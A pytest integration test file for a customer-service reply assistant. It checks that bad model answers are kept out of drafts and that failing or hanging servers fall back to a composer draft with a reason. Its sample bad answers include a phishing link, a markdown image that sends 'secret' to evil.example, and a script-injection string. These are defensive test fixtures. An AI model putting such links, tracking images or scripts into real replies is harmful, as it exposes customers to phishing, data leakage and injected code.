"""A model that says the wrong thing, a server that says it the wrong way: the agent has a draft in time all the same.

Through the desk and a real socket. Whatever was played, the draft has a text, the check's word on every claim in it,
nothing that the check blocks, and the reason where the model's reply was not used.
"""

import gc
import json
import socket
import threading
from contextlib import contextmanager
from time import monotonic

import pytest

from assistant.bootstrap import desk_for_commands, feed_at, read_feed
from assistant.settings import Settings
from tests.fakes.draft_requests import ticket
from tests.fakes.openai_server import (
    OpenAIServer,
    drip,
    endless,
    failing,
    falling_silent,
    good,
    hang,
    long_line,
    not_json,
    rate_limited,
    refusing,
    tiny,
    too_short,
    truncated,
)
from tests.integration.test_model_drafts import ACKNOWLEDGE, FEED, NOW, RIGHT, SORRY

DEADLINE = 4.0
MARGIN = 16.0
"""Seconds for a busy machine; every bad server here would take a minute or more."""


def _said(*sentences):
    told = [{"move": move, "text": text, "facts": facts} for move, text, facts in sentences]
    return {"sentences": [ACKNOWLEDGE, SORRY, *told]}


ANSWERS = {
    "rude": (
        _said(("inform", "Stop whining, it is your own fault for choosing us.", [])),
        ("whining", "your own fault"),
    ),
    "cause, place and number from nowhere": (
        _said(("inform", "A lorry hit our cabinet on Elm Street at 11:47 am and 4,312 homes are dark.", [])),
        ("Elm Street", "11:47", "4,312"),
    ),
    "a changed time": (_said(("inform", "It is back by 9 pm tonight.", ["INC-7/eta@r4"])), ("9 pm",)),
    "a phishing link": (_said(("guide", "Confirm your account at https://northlight.example.evil/in.", [])), ("evil",)),
    "a refund": (_said(("compensate", "We have credited $50 to your account.", [])), ("$50", "credited")),
    "another customer": (
        _said(("inform", "Your neighbour Carla Gomez at 22 Oak Lane is back already.", [])),
        ("Gomez", "Oak Lane"),
    ),
    "a picture that reports": (
        _said(("inform", "![status](https://evil.example/p.png?d=secret)", [])),
        ("evil.example", "!["),
    ),
    "a contact from nowhere": (_said(("contact", "Ask for Martin Keller on +1 312 555 7777.", [])), ("Keller", "7777")),
    "another language": (
        {
            "sentences": [
                {
                    "move": "acknowledge",
                    "text": "Un terminal parado en sábado le cuesta ventas, y lo entendemos.",
                    "facts": [],
                },
                {
                    "move": "apologise",
                    "text": "Lo sentimos mucho y es nuestra responsabilidad arreglarlo.",
                    "facts": [],
                },
            ]
        },
        ("sentimos",),
    ),
    "one sentence for ever": (_said(*[("inform", f"We understand you {'very ' * n}well.", []) for n in range(60)]), ()),
    "out of order": ({"sentences": list(reversed(RIGHT["sentences"]))}, ()),
    "markup": (_said(("close", "<script>alert(1)</script> **Thanks**", [])), ("<script", "**")),
}


@pytest.fixture
def draft(tmp_path):
    """Drafts the sample ticket with a model at a URL; returns the answer, what was told on the way, and the seconds."""
    feed = tmp_path / "feed.json"
    feed.write_text(json.dumps(FEED), encoding="utf-8")

    def run(url, seconds=DEADLINE):
        settings = Settings(model="openai:fake", model_base_url=url, model_api_key="k", model_deadline=seconds)
        desk = desk_for_commands(settings, NOW, with_drafts=False, writer=True)
        read_feed(desk, feed_at(str(feed)))
        told = []
        start = monotonic()
        received = ticket(received_at="2026-11-21T13:05:00-06:00")
        answered = desk.pipeline.answer(received, NOW, on_draft=told.append)
        return answered, told, monotonic() - start

    return run


def _is_sound(answered, seconds):
    made = answered.draft
    assert made.reply.text
    assert made.check.verdict != "block"
    assert not [claim for claim in made.check.claims if claim.verdict == "unsupported" and claim.severity == "block"]
    assert bool(made.drafter.fallback) == (made.drafter.kind == "composer")
    assert bool(answered.writing.why) == (made.drafter.kind == "composer")
    assert seconds < DEADLINE + MARGIN


@pytest.mark.parametrize("name", ANSWERS)
def test_what_must_not_be_said_is_not_in_the_draft(draft, name):
    answer, forbidden = ANSWERS[name]
    with OpenAIServer([good(answer)]) as server:
        answered, told, seconds = draft(server.base_url, 30.0)
    _is_sound(answered, seconds - 30.0)
    assert [words for words in forbidden if words in answered.draft.reply.text] == []
    for so_far in told:
        unsound = [words for words in forbidden if words in so_far.text]
        assert not unsound or so_far.check.verdict == "block"  # on the screen it is marked


SERVERS = {
    "silence": (hang, {"timeout"}),
    "dripping": (lambda: drip(RIGHT, 0.2), {"timeout"}),
    "stops after half": (lambda: falling_silent(RIGHT), {"timeout"}),
    "breaks off after half": (lambda: truncated(RIGHT), {"truncated"}),
    "token limit": (lambda: too_short(RIGHT), {"truncated"}),
    "come back in two minutes": (rate_limited, {"rate_limited"}),
    "endless": (endless, {"truncated", "timeout"}),
    "a line without end": (long_line, {"truncated", "timeout"}),
    "a web page": (not_json, {"invalid_output"}),
    "prose": (lambda: good("Dear customer, all is well."), {"invalid_output"}),
    "refusal": (refusing, {"refused"}),
    "broken": (failing, {"server_error"}),
}


@pytest.mark.parametrize("name", SERVERS)
def test_a_server_that_fails_leaves_the_composers_draft_and_the_reason(draft, name):
    play, codes = SERVERS[name]
    with OpenAIServer([play()]) as server:
        answered, _, seconds = draft(server.base_url)
    _is_sound(answered, seconds)
    assert answered.draft.drafter.fallback in codes


def test_a_stream_that_stops_had_shown_its_whole_sentences(draft):
    with OpenAIServer([falling_silent(RIGHT)]) as server:
        _, told, _ = draft(server.base_url)
    assert told
    assert told[-1].text.endswith(told[-1].text[told[-1].sentences[-1].start :])


def test_thousands_of_tiny_events_are_a_reply_like_any_other(draft):
    answer = {**RIGHT, "thoughts": "well " * 600}
    with OpenAIServer([tiny(answer)]) as server:
        answered, told, seconds = draft(server.base_url, 30.0)
    _is_sound(answered, seconds - 30.0)
    assert answered.draft.drafter.kind == "model"
    assert len(told[-1].sentences) == len(RIGHT["sentences"])


@contextmanager
def _mute_listener():
    """Accepts connections and never says a word, not even to shake hands."""
    taken = []
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0.05)
        over = threading.Event()

        def accept():
            while not over.is_set():
                try:
                    taken.append(listening.accept()[0])
                except TimeoutError:
                    continue

        thread = threading.Thread(target=accept)
        thread.start()
        try:
            yield listening.getsockname()[1]
        finally:
            over.set()
            thread.join()
            for one in taken:
                one.close()


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_handshake_that_never_ends_ends_in_time(draft, scheme):
    with _mute_listener() as port:
        answered, _, seconds = draft(f"{scheme}://127.0.0.1:{port}/v1", 2.0)
    _is_sound(answered, seconds)
    assert answered.draft.drafter.fallback == "timeout"
    gc.collect()  # asyncio leaves a socket to the collector where a handshake is cancelled, and says so
